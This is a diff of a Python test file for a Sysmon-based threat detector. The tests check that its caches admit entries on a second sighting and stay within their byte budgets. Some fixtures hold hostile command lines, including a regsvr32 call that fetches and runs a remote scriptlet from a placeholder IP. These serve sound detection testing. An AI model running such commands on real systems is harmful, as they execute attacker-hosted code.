@@ -27,9 +27,35 @@ def test_the_budget_holds_at_every_put():
         cache.put(i, str(i), (i * 37) % 4000)
         assert cache.used <= cache.budget
         assert cache.used == sum(((k * 37) % 4000) + ENTRY_BYTES for k in cache)
-    assert cache.put("big", "v", 3000) == "v" and "big" not in cache     # over largest: handed back
+    assert cache.put("big", "v", 3000) is False and "big" not in cache   # over largest: not kept
     cache.clear()
     assert cache.used == 0 and not cache
+
+
+def test_an_answer_is_admitted_from_its_keys_second_sighting():
+    cache = Bounded(64 * 8 * 100)          # room for the hashes of 100 keys seen once
+    assert [cache.admits(k) for k in ("a", "b", "a", "a")] == [False, False, True, True]
+    for i in range(100):                    # the set of keys seen once is full: it starts again
+        cache.admits(i)
+    assert cache.admits("a") is False and cache.admits("a") is True
+
+
+def test_the_memo_keeps_a_line_seen_twice_and_not_a_line_seen_once():
+    detector = Detector()
+    once, twice = (sysmon1("C:\\Windows\\System32\\regsvr32.exe /s C:\\Users\\Public\\%s.dll" % n)
+                   for n in ("once", "twice"))
+    for row in (once, twice, twice):
+        detector.evaluate(row)
+    kept = [k[1] for k in detector.memo._answers if k[0] == "cmd"]
+    assert twice["CommandLine"] in kept and once["CommandLine"] not in kept
+
+
+def test_a_verdict_says_whether_the_memo_keeps_it():
+    detector = Detector()
+    row = sysmon1("C:\\Windows\\System32\\regsvr32.exe /s /u /i:http://203.0.113.9/a.sct scrobj.dll")
+    verdicts = [detector.evaluate(dict(row, ProcessId=str(i))) for i in range(6)]
+    assert verdicts[0].score > 0 and not verdicts[0].kept
+    assert verdicts[-1].kept and verdicts[-1] is verdicts[-2]   # handed back: the same verdict
 
 
 def _held(make, *args):
@@ -75,7 +101,8 @@ def test_a_plan_and_a_verdict_cost_no_more_than_their_estimates(record):
     plan, held = _held(fields.Plan, keys)
     assert held <= det._plan_cost(("keys", keys), plan)
     detector = Detector()
-    detector._judge(fields.normalize(record, plan))         # the parse is remembered: not counted
+    for _ in range(2):      # the parse is remembered from its second sighting on: not counted
+        detector._judge(fields.normalize(record, plan))
     ev = fields.normalize(record, plan)
     facts = tuple([(k, v) for k, v in ev.values.items() if k not in detector._unread])
     verdict, held = _held(detector._judge, ev)
@@ -115,8 +142,9 @@ def test_ordinary_answers_are_still_remembered_by_the_thousand():
 
 def test_the_signature_and_address_caches_hold_their_budgets():
     for i in range(3000):
-        signature.fold_path("C:\\Users\\u%d\\%s.dll" % (i, "\U0001F600" * 1000))
-        winpath.parse_ip("10.%d.%d.1" % (i // 256, i % 256))
+        for _ in range(2):      # kept from the second sighting on
+            signature.fold_path("C:\\Users\\u%d\\%s.dll" % (i, "\U0001F600" * 1000))
+            winpath.parse_ip("10.%d.%d.1" % (i // 256, i % 256))
     for fn in (signature._fold_path, signature._fold_text, signature._image_of, winpath._parse_ip):
         assert 0 <= fn.cache.used <= fn.cache.budget, fn.__name__
     # 3,000 folds of 1,000 four-byte characters each hold 24 MB: a count of 4,096 kept them all
